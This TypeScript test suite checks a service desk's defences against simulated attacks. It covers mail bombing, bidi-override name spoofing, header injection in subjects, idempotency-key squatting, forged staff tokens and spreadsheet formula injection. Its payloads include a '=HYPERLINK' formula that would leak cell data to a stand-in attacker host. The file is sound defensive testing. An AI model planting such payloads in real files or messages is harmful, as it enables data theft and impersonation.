import { request as httpRequest } from 'node:http';
import { DynamoDBClient, ScanCommand } from '@aws-sdk/client-dynamodb';
import { createTransport, type Transporter } from 'nodemailer';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { LOCAL_CLIENT_ID } from '../../bin/local/signing-key';
import { LOCAL_CREDENTIALS } from '../../bin/local/dynamodb';
import { berlinDay } from '../../functions/domain/calendar';
import { SqsOutbox } from '../../functions/adapters/sqs-outbox';
import type { OutboxEvent } from '../../functions/domain/mail/outbox-event';
import { messageIdKey } from '../../functions/domain/mail/threading';
import { signRequest } from '../../functions/domain/request-signature';
import { TestStack, type SubmittedTicket } from './harness';

/**
 * The trust boundaries of SPEC §14, tried from outside as the attacks of issue 10 were:
 * each `describe` is one finding, through HTTP and SMTP against the local stack. The limits
 * are set low for the run (domain 8, client 10 an hour; mailbox stays at its default 5).
 */

const SUPPORT = 'support@servicedesk.test';

/** Everything the functions wrote to the console during the run (finding 10). */
const logged: string[] = [];

describe('trust boundaries (SPEC §14, issue 10)', () => {
  let api: TestStack;
  let alice: string;
  let bob: string;
  let admin: string;
  let finance: string;
  let db: DynamoDBClient;
  let smtp: Transporter;
  const published: OutboxEvent[] = [];

  beforeAll(async () => {
    process.env.ACK_LIMIT_DOMAIN = '8';
    process.env.ACK_LIMIT_CLIENT = '10';
    for (const method of ['log', 'info', 'warn', 'error'] as const) {
      const original = console[method].bind(console);
      vi.spyOn(console, method).mockImplementation((...args: unknown[]) => {
        logged.push(args.map((a) => (typeof a === 'string' ? a : String(a))).join(' '));
        original(...args);
      });
    }
    // Records what goes on the outbox, and still sends it.
    const publish = SqsOutbox.prototype.publish;
    vi.spyOn(SqsOutbox.prototype, 'publish').mockImplementation(async function (
      this: SqsOutbox,
      event: OutboxEvent,
    ) {
      published.push(structuredClone(event));
      return publish.call(this, event);
    });
    api = await TestStack.start();
    alice = await api.token('alice', ['agents']);
    bob = await api.token('bob', ['agents']);
    admin = await api.token('root', ['admins']);
    finance = await api.token('fiona', ['finance']);
    db = new DynamoDBClient({
      endpoint: api.stack.dynamoDbEndpoint,
      region: 'local',
      credentials: LOCAL_CREDENTIALS,
    });
    smtp = createTransport({
      host: '127.0.0.1',
      port: api.stack.smtpPort,
      secure: false,
      ignoreTLS: true,
    });
  });
  afterAll(async () => {
    smtp?.close();
    db?.destroy();
    await api?.stop();
    vi.restoreAllMocks();
    delete process.env.ACK_LIMIT_DOMAIN;
    delete process.env.ACK_LIMIT_CLIENT;
  });

  /** POST /tickets from a given local address (the client address the limits count). */
  const submitFrom = (
    localAddress: string,
    overrides: Record<string, unknown>,
    headers: Record<string, string> = {},
  ): Promise<{ status: number; json: Record<string, unknown> }> => {
    const body = JSON.stringify({
      name: 'Erika Mustermann',
      subject: 'Backup',
      description: 'Die Sicherung läuft nicht.',
      severity: 'normal',
      ...overrides,
    });
    const url = new URL(`${api.stack.apiUrl}/tickets`);
    return new Promise((resolve, reject) => {
      const req = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          path: url.pathname,
          method: 'POST',
          localAddress,
          headers: { 'content-type': 'application/json', ...headers },
        },
        (res) => {
          let text = '';
          res.setEncoding('utf8');
          res.on('data', (chunk: string) => (text += chunk));
          res.on('end', () =>
            resolve({
              status: res.statusCode ?? 0,
              json: text ? (JSON.parse(text) as Record<string, unknown>) : {},
            }),
          );
        },
      );
      req.on('error', reject);
      req.end(body);
    });
  };
  /** Acknowledgements sent to addresses the predicate picks (bare addresses, lower case). */
  const acksTo = async (predicate: (to: string) => boolean) =>
    (
      await api.mailTo((m) =>
        m.destination.to.some((to) => predicate((/<([^>]+)>/.exec(to)?.[1] ?? to).toLowerCase())),
      )
    ).filter((m) => /Eingangsbestätigung|Acknowledg/i.test(m.subject));
  const scanTable = async () => {
    const { Items = [] } = await db.send(new ScanCommand({ TableName: api.stack.tableName }));
    return Items.map((item) => JSON.stringify(item));
  };
  const agentView = async (ticketId: string, token = alice) =>
    (await api.request('GET', `/tickets/${ticketId}`, { token })).json;

  describe('3. acknowledgements are limited per mailbox, domain and client', () => {
    it('sends bomb+1@ … bomb+7@ at most 5 acknowledgements, and still makes all 7 tickets', async () => {
      const tickets: string[] = [];
      for (let i = 1; i <= 7; i++) {
        const response = await submitFrom('127.0.0.2', { email: `Bomb+${i}@Victim.example` });
        expect(response.status).toBe(201);
        tickets.push(String(response.json.ticketId));
      }
      const acks = await acksTo((to) => to.toLowerCase().includes('@victim.example'));
      expect(acks).toHaveLength(5);
      // The customer can still be served: every ticket is in the queue.
      const queued = new Set((await api.queue(alice)).map((t) => t.ticketId));
      expect(tickets.every((id) => queued.has(id))).toBe(true);
    });

    it('counts b.o.m.b@gmail.com and bomb@googlemail.com as one mailbox', async () => {
      const addresses = [
        'bomb@gmail.com',
        'b.o.m.b@gmail.com',
        'BO.MB+x@gmail.com',
        'bomb@googlemail.com',
        'b.omb@googlemail.com',
        'bo.mb@gmail.com',
        'bom.b+y@googlemail.com',
      ];
      for (const email of addresses) {
        expect((await submitFrom('127.0.0.3', { email })).status).toBe(201);
      }
      const acks = await acksTo((to) => /@(gmail|googlemail)\.com$/i.test(to));
      expect(acks).toHaveLength(5);
    });

    it('limits one domain however many mailboxes it uses (ACK_LIMIT_DOMAIN)', async () => {
      for (let i = 1; i <= 9; i++) {
        expect((await submitFrom('127.0.0.4', { email: `user${i}@corp.example` })).status).toBe(
          201,
        );
      }
      expect(await acksTo((to) => to.endsWith('@corp.example'))).toHaveLength(8);
    });

    it('limits one client address however many domains it uses (ACK_LIMIT_CLIENT)', async () => {
      for (let i = 1; i <= 11; i++) {
        expect((await submitFrom('127.0.0.5', { email: `x@d${i}.example` })).status).toBe(201);
      }
      expect(await acksTo((to) => /@d\d+\.example$/.test(to))).toHaveLength(10);
      // Another client is not held back by that one.
      expect((await submitFrom('127.0.0.6', { email: 'x@other-client.example' })).status).toBe(201);
      expect(await acksTo((to) => to === 'x@other-client.example')).toHaveLength(1);
    });
  });

  describe('11. controls and bidi overrides are stripped from names and subjects', () => {
    it('on the web form', async () => {
      const response = await submitFrom('127.0.0.7', {
        email: 'bidi@form.example',
        name: 'Mallory \u202Eexe.fdp\u202C\u0000\u0007',
        subject: 'Invoice\u2066 due\u2069\r\nBcc: x@y\u0085',
        description: 'Line 1\r\nLine 2\u202E\u0000\tend',
      });
      expect(response.status).toBe(201);
      const view = await agentView(String(response.json.ticketId));
      expect(view.requester).toMatchObject({ name: 'Mallory exe.fdp' });
      expect(view.subject).toBe('Invoice due Bcc: x@y');
      expect(view.description).toBe('Line 1\nLine 2\tend');
    });

    it('refuses a name that is nothing but controls (400), storing nothing', async () => {
      await api.outboxIdle(); // the acknowledgement of the last test is written first
      const before = await scanTable();
      const response = await submitFrom('127.0.0.7', {
        email: 'bidi@form.example',
        name: '\u202E\u0000\u2066',
      });
      expect(response.status).toBe(400);
      expect(await scanTable()).toEqual(before);
    });

    it('on mail', async () => {
      const messageId = `<bidi-${Date.now()}@mail.example>`;
      await smtp.sendMail({
        envelope: { from: 'eve@mail.example', to: [SUPPORT] },
        raw: [
          'From: =?UTF-8?B?' +
            Buffer.from('Eve \u202Egnp.exe').toString('base64') +
            '?= <eve@mail.example>',
          `To: ${SUPPORT}`,
          `Message-ID: ${messageId}`,
          'Subject: =?UTF-8?B?' +
            Buffer.from('Rechnung\u202E fällig\u0007').toString('base64') +
            '?=',
          'Content-Type: text/plain; charset=utf-8',
          '',
          'Bitte prüfen.',
          '',
        ].join('\r\n'),
      });
      let found: Record<string, unknown> | undefined;
      for (let i = 0; i < 100 && !found; i++) {
        const queue = await api.queue(alice);
        const item = queue.find((t) => t.subject.startsWith('Rechnung'));
        if (item) found = await agentView(item.ticketId);
        else await new Promise((resolve) => setTimeout(resolve, 150));
      }
      expect(found?.subject).toBe('Rechnung fällig');
      expect(found?.requester).toMatchObject({ name: 'Eve gnp.exe' });
    });

    it('on the voicemail hook', async () => {
      const body = JSON.stringify({
        callerNumber: '+49 30 7770001',
        calledAt: new Date().toISOString(),
        transcript: 'Rufen Sie \u202Ezurück\u0000',
      });
      const timestamp = Math.floor(Date.now() / 1000);
      const response = await api.request('POST', '/intake/voicemail', {
        rawBody: body,
        headers: {
          'content-type': 'application/json',
          'x-servicedesk-timestamp': String(timestamp),
          'x-servicedesk-signature': signRequest(api.stack.voicemailSecret, timestamp, body),
        },
      });
      expect(response.status).toBe(201);
      const view = await agentView(String(response.json.ticketId));
      expect(String(view.description)).toContain('Rufen Sie zurück');
      expect(String(view.description)).not.toMatch(/\u202E|\p{Cc}(?<![\n\t])/u);
    });
  });

  describe('4. held tickets are changed only by their agent or an admin', () => {
    let ticketId: string;

    it('records a ticket taken out of queue order, visible to other agents', async () => {
      const first = await api.submit({ email: 'first@held.example', severity: 'critical' });
      const second = await api.submit({ email: 'second@held.example', severity: 'low' });
      // The first waits before the second (critical before low): taking the second skips it.
      const taken = await api.request('PATCH', `/tickets/${second.ticketId}`, {
        token: alice,
        body: { status: 'in_progress' },
      });
      expect(taken.status).toBe(200);
      expect(taken.json).toMatchObject({ assignee: 'alice', status: 'in_progress' });
      const seenByBob = await agentView(second.ticketId, bob);
      expect(seenByBob.takenOutOfOrder).toEqual({ by: 'alice', at: expect.any(String) });
      ticketId = second.ticketId;

      // Taking the ticket at the head of the queue is not out of order. Drain ahead of it.
      const queue = await api.queue(alice);
      const headTicket = queue[0]?.ticketId;
      expect(headTicket).toBeDefined();
      const head = await api.request('PATCH', `/tickets/${String(headTicket)}`, {
        token: bob,
        body: { status: 'in_progress' },
      });
      expect(head.status).toBe(200);
      expect(head.json.takenOutOfOrder).toBeUndefined();
      expect(first.ticketId).toBeDefined();
    });

    it("gives Bob 403 on Alice's held ticket for status, severity, release and a public reply", async () => {
      const before = await agentView(ticketId);
      const attempts = [
        api.request('PATCH', `/tickets/${ticketId}`, { token: bob, body: { status: 'resolved' } }),
        api.request('PATCH', `/tickets/${ticketId}`, { token: bob, body: { status: 'open' } }),
        api.request('PATCH', `/tickets/${ticketId}`, {
          token: bob,
          body: { status: 'waiting_customer' },
        }),
        api.request('PATCH', `/tickets/${ticketId}`, { token: bob, body: { severity: 'high' } }),
        api.request('POST', `/tickets/${ticketId}/release`, { token: bob }),
        api.request('POST', `/tickets/${ticketId}/messages`, {
          token: bob,
          body: { body: 'Hello from Bob', internal: false },
        }),
      ];
      for (const response of await Promise.all(attempts)) {
        expect(response.status, response.text).toBe(403);
        expect(response.headers.get('content-type')).toContain('application/problem+json');
      }
      const after = await agentView(ticketId);
      expect(after).toMatchObject({
        status: before.status,
        severity: before.severity,
        assignee: 'alice',
        version: before.version,
      });
    });

    it('lets Bob add an internal note, an admin change it, and Alice resolve it', async () => {
      const note = await api.request('POST', `/tickets/${ticketId}/messages`, {
        token: bob,
        body: { body: 'Kenne ich, siehe T-1', internal: true },
      });
      expect(note.status).toBe(201);
      const bySeverity = await api.request('PATCH', `/tickets/${ticketId}`, {
        token: admin,
        body: { severity: 'high' },
      });
      expect(bySeverity.status).toBe(200);
      expect(bySeverity.json).toMatchObject({ severity: 'high', assignee: 'alice' });
      const resolved = await api.request('PATCH', `/tickets/${ticketId}`, {
        token: alice,
        body: { status: 'resolved' },
      });
      expect(resolved.status).toBe(200);
    });
  });

  describe('6. public Idempotency-Keys live in a namespace of their own', () => {
    it('a public key voicemail.… does not break the voicemail hook', async () => {
      const calledAt = '2026-12-04T11:00:00.000Z';
      const key = `voicemail.+4930777.${calledAt}`;
      const squatter = await submitFrom(
        '127.0.0.8',
        { email: 'squat@evil.example' },
        { 'idempotency-key': key },
      );
      expect(squatter.status).toBe(201);
      const body = JSON.stringify({ callerNumber: '+4930777', calledAt });
      const timestamp = Math.floor(Date.now() / 1000);
      const voicemail = await api.request('POST', '/intake/voicemail', {
        rawBody: body,
        headers: {
          'content-type': 'application/json',
          'x-servicedesk-timestamp': String(timestamp),
          'x-servicedesk-signature': signRequest(api.stack.voicemailSecret, timestamp, body),
        },
      });
      expect(voicemail.status).toBe(201);
      expect(voicemail.json.ticketId).not.toBe(squatter.json.ticketId);
      expect(voicemail.json.channel).toBe('phone');
    });

    it('a public key mail.<message-id> does not stop that mail from becoming a ticket', async () => {
      const messageId = `<squatted-${Date.now()}@mail.example>`;
      const squatter = await submitFrom(
        '127.0.0.8',
        { email: 'squat2@evil.example' },
        { 'idempotency-key': `mail.${messageIdKey(messageId) ?? ''}` },
      );
      expect(squatter.status).toBe(201);
      await smtp.sendMail({
        envelope: { from: 'real@customer.example', to: [SUPPORT] },
        raw: [
          'From: Real Customer <real@customer.example>',
          `To: ${SUPPORT}`,
          `Message-ID: ${messageId}`,
          'Subject: Server steht',
          'Content-Type: text/plain; charset=utf-8',
          '',
          'Bitte helfen.',
          '',
        ].join('\r\n'),
      });
      let made: string | undefined;
      for (let i = 0; i < 100 && !made; i++) {
        made = (await api.queue(alice)).find((t) => t.subject === 'Server steht')?.ticketId;
        if (!made) await new Promise((resolve) => setTimeout(resolve, 150));
      }
      expect(made).toBeDefined();
      expect(made).not.toBe(squatter.json.ticketId);
    });
  });

  describe('7. access tokens are stored only as hashes', () => {
    it('keeps no plaintext token in the table or on the outbox; a replay still returns it', async () => {
      const headers = { 'idempotency-key': `secret-test-${Date.now()}` };
      const first = await submitFrom('127.0.0.9', { email: 'token@keeper.example' }, headers);
      expect(first.status).toBe(201);
      const token = String(first.json.accessToken);
      expect(token).toMatch(/^[A-Za-z0-9_-]{32}$/);
      const replay = await submitFrom('127.0.0.9', { email: 'token@keeper.example' }, headers);
      expect(replay.json).toMatchObject({ ticketId: first.json.ticketId, accessToken: token });

      const items = await scanTable();
      expect(items.some((item) => item.includes(String(first.json.ticketId)))).toBe(true);
      expect(items.filter((item) => item.includes(token))).toEqual([]);
      const acks = published.filter(
        (e) => e.kind === 'acknowledgement' && e.ticketId === first.json.ticketId,
      );
      expect(acks.length).toBeGreaterThan(0);
      expect(acks.filter((e) => JSON.stringify(e).includes(token))).toEqual([]);

      // The acknowledgement still carries the link, and the token opens the ticket.
      const [ack] = await acksTo((to) => to === 'token@keeper.example');
      expect(ack?.body.text).toContain(`token=${token}`);
      const view = await api.request('GET', `/tickets/${String(first.json.ticketId)}`, {
        headers: { 'x-ticket-token': token },
      });
      expect(view.status).toBe(200);
    });
  });

  describe('8. the plain CSV export defuses formulas', () => {
    it('writes =HYPERLINK( as text in csv as in excel', async () => {
      const name = '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")';
      const put = await api.request('PUT', '/customers/formula', {
        token: admin,
        body: { name, domains: ['formula.example'] },
      });
      expect(put.status, put.text).toBe(201);
      const ticket: SubmittedTicket = await api.submit({ email: 'it@formula.example' });
      const work = await api.request('POST', `/tickets/${ticket.ticketId}/work`, {
        token: alice,
        body: { minutes: 15, serviceCode: 'REMOTE', description: 'Fernwartung' },
      });
      expect(work.status, work.text).toBe(201);
      const month = berlinDay(new Date()).slice(0, 7);
      for (const format of ['csv', 'excel']) {
        const csv = await api.request('GET', `/exports/billing?month=${month}&format=${format}`, {
          token: finance,
        });
        expect(csv.status).toBe(200);
        const row = csv.text.split(/\r?\n/).find((line) => line.includes('formula'));
        expect(row).toBeDefined();
        expect(row).toContain(`'=HYPERLINK(`);
        expect(row).not.toMatch(/[,;]"?=HYPERLINK\(/);
      }
    });
  });

  describe('9. staff tokens must carry exp, issuer, client and token_use', () => {
    const base = () => ({
      sub: 'uuid-alice',
      'cognito:username': 'alice',
      'cognito:groups': ['agents'],
      iss: `${api.stack.apiUrl}/_local`,
      aud: LOCAL_CLIENT_ID,
      token_use: 'id',
      iat: Math.floor(Date.now() / 1000),
      exp: Math.floor(Date.now() / 1000) + 600,
    });

    it('accepts a complete token', async () => {
      const token = await api.signClaims(base());
      expect((await api.request('GET', '/queue', { token })).status).toBe(200);
    });

    it.each([
      ['without aud', { aud: undefined }],
      ['for another client', { aud: 'another-app' }],
      ['without exp', { exp: undefined }],
      ['without token_use', { token_use: undefined }],
      ['of an unknown use', { token_use: 'refresh' }],
    ])(
      'answers 401 to a well-signed token %s, on staff routes and token routes',
      async (_l, change) => {
        const token = await api.signClaims({ ...base(), ...change });
        expect((await api.request('GET', '/queue', { token })).status).toBe(401);
        const someTicket = (await api.queue(alice))[0]?.ticketId ?? 'T-10001';
        expect((await api.request('GET', `/tickets/${someTicket}`, { token })).status).toBe(401);
      },
    );

    it.each([
      ['a string', 'agents,admins'],
      ['one list entry holding two names', ['agents,admins']],
      ['one list entry with a space', ['agents admins']],
    ])('reads groups as a list: %s is no group (403)', async (_l, groups) => {
      const token = await api.signClaims({ ...base(), 'cognito:groups': groups });
      expect((await api.request('GET', '/queue', { token })).status).toBe(403);
      expect((await api.request('GET', '/customers', { token })).status).toBe(403);
    });
  });

  describe('10. logs carry ids only', () => {
    it('logged no address, name or text of the run above, and did log its rate limits', async () => {
      await smtp.sendMail({
        envelope: { from: 'mallory@evil.example', to: [SUPPORT] },
        raw: [
          'From: Mallory Malice <mallory@evil.example>',
          `To: ${SUPPORT}`,
          `Message-ID: <log-${Date.now()}@evil.example>`,
          'Subject: Geheimer Betreff',
          'Auto-Submitted: auto-replied',
          '',
          'Text',
          '',
        ].join('\r\n'),
      });
      await api.outboxIdle();
      await new Promise((resolve) => setTimeout(resolve, 1500));
      for (const secret of [
        'victim.example',
        'bomb',
        'gmail',
        'corp.example',
        'mallory',
        'Mallory',
        'evil.example',
        'Erika',
        'Mustermann',
        'Geheimer',
        'keeper.example',
        '127.0.0.',
      ]) {
        expect(
          logged.filter((line) => line.includes(secret)),
          secret,
        ).toEqual([]);
      }
      // The run did log its limits (by which limit, not by whose address).
      const text = logged.join('\n');
      expect(text).toMatch(/acknowledgement rate limit per mailbox reached/);
      expect(text).toMatch(/acknowledgement rate limit per domain reached/);
      expect(text).toMatch(/acknowledgement rate limit per client reached/);
    });
  });
});
